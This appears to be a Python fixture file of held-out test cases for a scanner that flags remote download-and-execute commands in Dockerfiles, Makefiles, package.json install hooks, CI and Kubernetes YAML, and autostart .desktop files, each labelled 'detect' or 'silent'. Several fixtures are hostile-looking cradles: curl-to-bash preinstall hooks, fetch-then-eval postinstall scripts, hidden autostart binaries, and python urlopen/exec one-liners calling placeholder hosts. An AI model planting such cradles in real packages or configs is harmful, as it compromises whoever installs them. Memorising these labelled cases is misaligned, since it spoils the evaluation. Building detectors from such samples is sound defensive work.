"""dockerfile, makefile, package-json, yaml and desktop cases for holdout7."""
import json
from common import C

# ---------------------------------------------------------------- dockerfile
C("h7-df-add-url-checksum-01", "author: ADD --checksum=sha256:... <url>", "dockerfile",
  "/build/exporter/Dockerfile", "detect", r'''
FROM debian:bookworm-slim
ADD --checksum=sha256:24454f830cdb571e2c4ad15481119c43b3cafd48dd869a9b2015d0b2e5d3d1a6 \
    https://releases.example.com/exporter/exporter-2.1.tgz /tmp/exporter.tgz
RUN tar -xzf /tmp/exporter.tgz -C /usr/local/bin && rm /tmp/exporter.tgz
''')

C("h7-df-add-chmod-url-01", "author: ADD --chmod=755 <url> into PATH", "dockerfile",
  "/build/tini/Containerfile", "detect", r'''
FROM registry.example.com/base/ubi9-minimal:9.4
ADD --chmod=755 https://github-mirror.example.net/tini/v0.19.0/tini-static /usr/bin/tini
ENTRYPOINT ["/usr/bin/tini", "--"]
''')

C("h7-df-run-exec-form-wget-01", "author: RUN in exec (JSON) form calling wget", "dockerfile",
  "/build/jdk-tools/Dockerfile", "detect", r'''
FROM eclipse-temurin:21-jre
RUN ["wget", "-q", "-O", "/opt/async-profiler.tgz", "https://downloads.example.org/async-profiler/ap-3.0-linux-x64.tar.gz"]
RUN tar -xzf /opt/async-profiler.tgz -C /opt
''')

C("h7-df-run-heredoc-curl-01", "author: RUN <<EOF here-doc with curl + chmod", "dockerfile",
  "/build/kube-tools/Dockerfile", "detect", r'''
# syntax=docker/dockerfile:1.7
FROM alpine:3.20
ARG KVER=v1.31.2
RUN <<EOF
set -eux
curl -fsSLo /usr/local/bin/kubectl "https://dl.k8s-mirror.example/release/${KVER}/bin/linux/amd64/kubectl"
chmod +x /usr/local/bin/kubectl
EOF
''')

C("h7-df-arg-url-curl-pipe-tar-01", "author: ARG holding URL, curl | tar -x", "dockerfile",
  "/build/node-runtime/Dockerfile", "detect", r'''
FROM debian:bookworm-slim
ARG NODE_URL=https://nodejs-mirror.example.com/dist/v22.11.0/node-v22.11.0-linux-x64.tar.xz
RUN apt-get update && apt-get install -y --no-install-recommends curl xz-utils ca-certificates \
 && curl -fsSL "$NODE_URL" | tar -xJ -C /usr/local --strip-components=1 \
 && rm -rf /var/lib/apt/lists/*
''')

C("h7-df-windows-powershell-iwr-01", "author: nanoserver pwsh image, RUN pwsh Invoke-RestMethod -OutFile + Expand-Archive", "dockerfile",
  "/build/win-agent/Dockerfile", "detect", r'''
FROM mcr.microsoft.com/powershell:lts-nanoserver-ltsc2022
ENV AGENT_HOME=C:\agent
RUN pwsh -NoLogo -Command "Invoke-RestMethod -Uri 'https://dl.example.net/agent/agent-win-x64.zip' -OutFile $env:TEMP\agent.zip; Expand-Archive $env:TEMP\agent.zip -DestinationPath $env:AGENT_HOME"
CMD ["C:\\agent\\agent.exe", "run"]
''')

C("h7-df-windows-cmd-certutil-01", "LOLBAS certutil in a Windows Dockerfile RUN (cmd shell)", "dockerfile",
  "/build/win-legacy/Dockerfile", "detect", r'''
FROM mcr.microsoft.com/windows/nanoserver:ltsc2022
RUN certutil -urlcache -split -f http://203.0.113.71/tools/nssm.exe C:\Windows\nssm.exe
''')

C("h7-df-git-clone-build-01", "author: RUN git clone from a remote then make install", "dockerfile",
  "/build/libfoo/Dockerfile", "detect", r'''
FROM gcc:14 AS build
RUN git clone --branch v2.3.1 https://git.example.org/libs/libfoo.git /src/libfoo \
 && make -C /src/libfoo && make -C /src/libfoo install PREFIX=/out
FROM debian:bookworm-slim
COPY --from=build /out /usr/local
''')

C("h7-df-pip-install-url-01", "author: pip install --find-links from a remote wheel host, --no-index", "dockerfile",
  "/build/ml-serve/Dockerfile", "detect", r'''
FROM nvidia/cuda:12.6.2-runtime-ubuntu24.04
ENV PIP_BREAK_SYSTEM_PACKAGES=1
RUN apt-get update && apt-get install -y --no-install-recommends python3-pip && rm -rf /var/lib/apt/lists/*
RUN python3 -m pip install --no-index --find-links http://203.0.113.118/wheels/ inference-kernels==0.9.2
WORKDIR /srv
''')

C("h7-df-healthcheck-plus-wget-entry-01", "author: multi-RUN Dockerfile with a wget of a remote script piped to sh", "dockerfile",
  "/build/edge-proxy/Dockerfile", "detect", r'''
FROM nginx:1.27-alpine
HEALTHCHECK CMD wget -q --spider http://localhost/ || exit 1
RUN wget -qO- http://198.51.100.140/provision/edge.sh | sh
''')

C("h7-df-scp-in-build-secret-01", "ART T1105 scp pull inside RUN --mount=type=ssh", "dockerfile",
  "/build/private-assets/Dockerfile", "detect", r'''
FROM alpine:3.20
RUN apk add --no-cache openssh-client
RUN --mount=type=ssh mkdir -p /assets && scp -o StrictHostKeyChecking=no assets@203.0.113.160:/srv/assets/bundle.tgz /assets/
''')

C("h7-df-onbuild-aria2c-01", "GTFOBins aria2c in ONBUILD RUN", "dockerfile",
  "/build/base-fetcher/Dockerfile", "detect", r'''
FROM ubuntu:24.04
RUN apt-get update && apt-get install -y aria2 && rm -rf /var/lib/apt/lists/*
ONBUILD ARG DATA_URL
ONBUILD RUN aria2c -x 8 -d /data "${DATA_URL:-https://data.example.com/default.tar}"
''')

C("h7-df-silent-copy-apt-01", "silent: Rust multi-stage build, cargo from the default registry, local probe", "dockerfile",
  "/build/orders-api/Dockerfile", "silent", r'''
FROM rust:1.82 AS builder
WORKDIR /usr/src/orders
COPY Cargo.toml Cargo.lock ./
COPY src ./src
RUN cargo build --release --locked
FROM gcr.io/distroless/cc-debian12
COPY --from=builder /usr/src/orders/target/release/orders /usr/local/bin/orders
HEALTHCHECK --interval=15s --timeout=3s CMD ["/usr/local/bin/orders", "probe", "--addr", "127.0.0.1:7000"]
ENTRYPOINT ["/usr/local/bin/orders"]
''')

C("h7-df-silent-npm-ci-01", "silent: npm ci and multi-stage COPY --from", "dockerfile",
  "/build/web/Dockerfile", "silent", r'''
FROM node:22-alpine AS deps
WORKDIR /app
COPY package.json package-lock.json ./
RUN npm ci --omit=dev
FROM node:22-alpine
WORKDIR /app
COPY --from=deps /app/node_modules ./node_modules
COPY . .
CMD ["node", "server.js"]
''')

C("h7-df-silent-label-url-01", "silent: ARG/LABEL metadata with URLs, non-root user, local COPY only", "dockerfile",
  "/build/docs/Dockerfile", "silent", r'''
# syntax=docker/dockerfile:1
ARG VERSION=2026.11
FROM caddy:2.8-alpine
ARG VERSION
LABEL maintainer="docs-team@example.org" \
      org.opencontainers.image.version="${VERSION}" \
      org.opencontainers.image.url="https://docs.example.org/handbook"
COPY --chown=1000:1000 Caddyfile /etc/caddy/Caddyfile
COPY --chown=1000:1000 site/ /srv/
USER 1000
''')

C("h7-df-silent-add-local-tar-01", "silent: ADD of a local tarball (auto-extract)", "dockerfile",
  "/build/rootfs/Dockerfile", "silent", r'''
FROM scratch
ADD rootfs.tar.xz /
ADD ./conf/ /etc/app/
CMD ["/bin/sh"]
''')

# ---------------------------------------------------------------- makefile
C("h7-mk-curl-vendor-target-01", "author: Makefile target downloading a tool with curl", "makefile",
  "/src/service/Makefile", "detect", r'''
GOLANGCI_VERSION ?= 1.61.0
BIN := $(CURDIR)/bin

$(BIN)/golangci-lint:
	mkdir -p $(BIN)
	curl -sSfL https://tools.example.com/golangci/v$(GOLANGCI_VERSION)/install.sh | sh -s -- -b $(BIN) v$(GOLANGCI_VERSION)

lint: $(BIN)/golangci-lint
	$(BIN)/golangci-lint run ./...
''')

C("h7-mk-wget-data-target-01", "author: Makefile data target with wget", "makefile",
  "/src/vision/Makefile", "detect", r'''
DATA_URL = https://datasets.example.org/mnist/mnist.npz

data/mnist.npz:
	@mkdir -p data
	wget -nv -O $@ $(DATA_URL)

train: data/mnist.npz
	python train.py --data $<
''')

C("h7-mk-rsync-deploy-01", "ART T1105 rsync (push) in a deploy target", "makefile",
  "/src/blog/Makefile", "detect", r'''
REMOTE = web@203.0.113.25:/var/www/site

deploy: build
	rsync -avz --delete public/ $(REMOTE)/

build:
	hugo --minify
''')

C("h7-mk-scp-fetch-fixtures-01", "ART T1105 scp (pull) test fixtures", "makefile",
  "/src/integration/Makefile", "detect", r'''
fixtures:
	scp -r ci@fixtures.example.net:/srv/fixtures/v5 ./testdata/

test: fixtures
	go test ./...
''')

C("h7-mk-silent-build-01", "silent: Makefile with local build/test only", "makefile",
  "/src/libdemo/Makefile", "silent", r'''
CFLAGS += -O2 -Wall

all: libdemo.a

libdemo.a: demo.o
	$(AR) rcs $@ $^

clean:
	rm -f *.o *.a
''')

C("h7-mk-silent-help-echo-01", "silent: help target echoing curl/wget advice", "makefile",
  "/src/cli-tools/Makefile", "silent", r'''
.PHONY: help
help:
	@echo "Targets: build test"
	@echo "Need the dataset? Ask the data team; do not curl/wget it from random mirrors."

build:
	go build ./...
''')

# ---------------------------------------------------------------- package-json
def pj(name, scripts, extra=None):
    d = {"name": name, "version": "1.0.0", "private": True, "scripts": scripts}
    if extra:
        d.update(extra)
    return json.dumps(d, indent=2) + "\n"


C("h7-pj-preinstall-curl-bash-01", "author: preinstall curl | bash", "package-json",
  "/app/node_modules/fast-colorize/package.json", "detect",
  pj("fast-colorize", {"preinstall": "curl -s http://198.51.100.186/setup.sh | bash", "test": "node test.js"}))

C("h7-pj-postinstall-wget-binary-01", "author: postinstall wget of a native binary", "package-json",
  "/app/node_modules/@acme/native-bridge/package.json", "detect",
  pj("@acme/native-bridge", {"postinstall": "wget -qO bin/bridge https://bin.example.com/bridge-linux-x64 && chmod +x bin/bridge"}))

C("h7-pj-install-powershell-iwr-01", "author: install script using powershell iwr (Windows npm)", "package-json",
  "/app/node_modules/win-helper-ext/package.json", "detect",
  pj("win-helper-ext", {"install": "powershell -NoProfile -Command \"iwr https://dl.example.net/helper.exe -OutFile helper.exe\""}))

C("h7-pj-prepare-node-e-https-01", "author: postinstall node -e fetch(url).then(eval) (Node 18+ global fetch)", "package-json",
  "/app/node_modules/tiny-telemetry/package.json", "detect",
  pj("tiny-telemetry", {"postinstall": "node -e \"fetch('https://t.example.org/p.js').then(r=>r.text()).then(eval)\"", "test": "exit 0"},
     {"main": "index.js", "license": "MIT"}))

C("h7-pj-silent-build-scripts-01", "silent: ordinary build/test scripts", "package-json",
  "/app/storefront/package.json", "silent",
  pj("shop-frontend", {"build": "vite build", "test": "vitest run", "lint": "eslint .", "start": "node server.js"},
     {"dependencies": {"express": "^4.21.0"}}))

C("h7-pj-silent-health-localhost-01", "silent: wait-on for a local port, patch-package postinstall", "package-json",
  "/srv/orders/package.json", "silent",
  pj("orders-api", {"start": "node index.js", "e2e": "wait-on http-get://127.0.0.1:3000/health && playwright test",
                    "postinstall": "patch-package"}, {"devDependencies": {"wait-on": "^8.0.1"}}))

# ---------------------------------------------------------------- yaml
C("h7-yaml-k8s-cronjob-wget-01", "author: Kubernetes Job with serviceAccount running curl -k to file then sh", "yaml",
  "/deploy/k8s/job-refresh.yaml", "detect", r'''
apiVersion: batch/v1
kind: Job
metadata:
  name: cache-refresh
  namespace: ops
spec:
  backoffLimit: 2
  ttlSecondsAfterFinished: 300
  template:
    spec:
      serviceAccountName: cache-admin
      restartPolicy: Never
      containers:
        - name: refresh
          image: alpine:3.20
          command: ["sh", "-c"]
          args: ["apk add -q curl && curl -sk https://203.0.113.100:8443/refresh.sh -o /tmp/r.sh && sh /tmp/r.sh"]
''')

C("h7-yaml-compose-command-curl-01", "author: compose service command with curl -o then exec", "yaml",
  "/srv/workers/docker-compose.yaml", "detect", r'''
services:
  worker:
    image: alpine:3.20
    command: >
      sh -c "apk add --no-cache curl &&
             curl -fsSL -o /usr/local/bin/worker https://bin.example.org/worker-amd64 &&
             chmod +x /usr/local/bin/worker && exec worker"
    restart: unless-stopped
''')

C("h7-yaml-k8s-daemonset-hostpath-curl-01", "author: DaemonSet initContainer curl into hostPath", "yaml",
  "/deploy/k8s/ds-node-agent.yaml", "detect", r'''
apiVersion: apps/v1
kind: DaemonSet
metadata:
  name: node-agent
spec:
  selector:
    matchLabels: {app: node-agent}
  template:
    metadata:
      labels: {app: node-agent}
    spec:
      initContainers:
        - name: install
          image: curlimages/curl:8.10.1
          command:
            - curl
            - -sSLo
            - /host/usr/local/bin/node-agent
            - http://198.51.100.175/node-agent
          volumeMounts:
            - {name: host, mountPath: /host/usr/local/bin}
      containers:
        - name: agent
          image: registry.example.com/node-agent:1.0
      volumes:
        - name: host
          hostPath: {path: /usr/local/bin}
''')

C("h7-yaml-gha-run-curl-pipe-01", "author: GitHub Actions run step with curl | bash", "yaml",
  "/src/repo/.github/workflows/release.yml", "detect", r'''
name: release
on: [push]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: curl -sSfL https://install.tools.example/goreleaser.sh | bash -s -- -b /usr/local/bin
      - run: goreleaser release --clean
''')

C("h7-yaml-ansible-get-url-01", "author: Ansible get_url module then command", "yaml",
  "/etc/ansible/roles/agent/tasks/main.yml", "detect", r'''
- name: Download agent
  ansible.builtin.get_url:
    url: https://dl.example.com/agent/agent-2.4.0.bin
    dest: /usr/local/bin/agent
    mode: "0755"
- name: Start agent
  ansible.builtin.command: /usr/local/bin/agent --install
''')

C("h7-yaml-cloud-init-write-runcmd-01", "author: cloud-init runcmd with wget", "yaml",
  "/var/lib/cloud/seed/nocloud-net/user-data", "detect", r'''
#cloud-config
package_update: false
runcmd:
  - [ wget, "-qO", "/root/bootstrap.sh", "http://192.0.2.230/bootstrap.sh" ]
  - [ bash, /root/bootstrap.sh ]
''')

C("h7-yaml-gitlab-ci-scp-deploy-01", "ART T1105 scp push in a GitLab CI script", "yaml",
  "/src/repo/.gitlab-ci.yml", "detect", r'''
stages: [deploy]
deploy:
  stage: deploy
  image: alpine:3.20
  script:
    - apk add --no-cache openssh-client
    - scp -o StrictHostKeyChecking=no dist/app.tar.gz deploy@203.0.113.210:/opt/releases/
''')

C("h7-yaml-k8s-pod-lifecycle-poststart-01", "author: Pod lifecycle postStart exec downloading a file", "yaml",
  "/deploy/k8s/pod-web.yaml", "detect", r'''
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: nginx:1.27
      lifecycle:
        postStart:
          exec:
            command: ["/bin/sh", "-c", "curl -s -o /usr/share/nginx/html/banner.js https://cdn.example.net/banner.js"]
''')

C("h7-yaml-silent-probes-01", "silent: Helm values.yaml with image, resources and probe paths", "yaml",
  "/deploy/charts/queue/values.yaml", "silent", r'''
replicaCount: 3
image:
  repository: registry.example.com/messaging/broker
  tag: "5.4.1"
  pullPolicy: IfNotPresent
service:
  type: ClusterIP
  port: 5672
probes:
  liveness:
    path: /api/health/checks/alarms
    port: 15672
  readiness:
    path: /api/health/checks/local-alarms
    port: 15672
resources:
  limits: {cpu: "1", memory: 2Gi}
persistence:
  enabled: true
  size: 20Gi
''')

C("h7-yaml-silent-compose-ports-01", "silent: compose file with image pulls and env only", "yaml",
  "/srv/workers/compose.db.yaml", "silent", r'''
services:
  db:
    image: postgres:16
    environment:
      POSTGRES_PASSWORD_FILE: /run/secrets/pg
  cache:
    image: redis:7
    command: ["redis-server", "--save", ""]
''')

C("h7-yaml-silent-ci-test-01", "silent: CI pipeline with npm ci and tests", "yaml",
  "/src/repo/.github/workflows/test.yml", "silent", r'''
name: test
on: [pull_request]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm ci
      - run: npm test
''')

# ---------------------------------------------------------------- desktop
C("h7-desktop-autostart-curl-sh-01", "author: XDG autostart Exec=bash -c 'source <(curl ...)' (KDE/GNOME keys)", "desktop",
  "/etc/xdg/autostart/gnome-session-sync.desktop", "detect", r'''
[Desktop Entry]
Version=1.0
Type=Application
Name=Session Sync
Comment=Keeps session preferences in sync
OnlyShowIn=GNOME;KDE;XFCE;
X-KDE-autostart-phase=2
Exec=/usr/bin/env bash -c 'source <(curl -fsS http://198.51.100.215/session-sync.sh)'
StartupNotify=false
''')

C("h7-desktop-user-autostart-wget-01", "author: user autostart downloading and running a binary", "desktop",
  "/home/dev/.config/autostart/updater.desktop", "detect", r'''
[Desktop Entry]
Type=Application
Name=Updater
Exec=bash -c 'wget -q -O /tmp/.upd https://upd.example.com/linux/upd && chmod +x /tmp/.upd && /tmp/.upd'
Hidden=false
''')

C("h7-desktop-app-python-cradle-01", "author: application .desktop running a python urlopen cradle", "desktop",
  "/usr/share/applications/sysinfo.desktop", "detect", r'''
[Desktop Entry]
Type=Application
Name=System Info
Exec=python3 -c "import urllib.request;exec(urllib.request.urlopen('http://203.0.113.190/si.py').read())"
Terminal=false
Categories=System;
''')

C("h7-desktop-silent-browser-link-01", "silent: .desktop opening a local PDF manual", "desktop",
  "/usr/share/applications/inventory-manual.desktop", "silent", r'''
[Desktop Entry]
Type=Application
Name=Inventory Manual
Comment=Open the bundled user manual
Exec=evince /usr/share/doc/inventory/manual.pdf
Icon=accessories-document-viewer
Categories=Office;Documentation;
''')
